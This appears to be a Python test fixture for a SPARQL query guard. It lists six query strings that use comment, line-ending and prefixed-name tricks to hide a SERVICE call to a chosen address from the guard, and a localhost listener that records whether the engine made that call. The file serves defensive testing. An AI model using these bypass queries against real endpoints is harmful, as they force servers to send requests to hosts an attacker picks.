"""Queries made to mislead a guard, and a listener that counts who calls it."""

from __future__ import annotations

import socket
import threading
from types import TracebackType

# Each has the engine call {address}, where a guard reads the text in another way than the engine. Found by hand or by the fuzz.
BYPASSES = [
    # An IRI for a tokenizer; "less than" and a comment for the engine.
    "SELECT * { ?s ?p ?o FILTER(1<2)SERVICE#>\n<{address}>{?a ?b ?c} }",
    # The name goes on behind the middle dot, and with it the escape.
    "PREFIX a: <x:> SELECT * { ?s ?p ?o OPTIONAL { ?s ?p a:b\u00b7\\# } SERVICE <{address}> {?a ?b ?c} #\n}",
    # A carriage return ends a comment, too; for rdflib it does not.
    "SELECT * { ?s ?p ?o #\rSERVICE <{address}> {?a ?b ?c} #\n }",
    # A name whose IRI is wrong, here by the port, is read as its prefix alone. rdflib sees one long name.
    "PREFIX a: <http://x:> PREFIX c: <{address}> SELECT * { ?s ?p a:SERVICEc:b {?a ?b ?c} }",
    # No space is needed behind the keyword.
    "PREFIX c: <{address}> SELECT * { ?s ?p ?o SERVICEc:b {?a ?b ?c} }",
    "PREFIX c: <{address}> SELECT * { ?s ?p ?o SERVICESILENTc:b {?a ?b ?c} SERVICEc:b {?a ?b ?c} }",
]


class Listener:
    """Notes the paths of requests to a port of this machine, and answers none."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    @property
    def address(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}/"

    def __enter__(self) -> Listener:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                self.calls.append(connection.recv(1 << 16).split(b" ")[1].decode())
                connection.sendall(b"HTTP/1.1 500 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
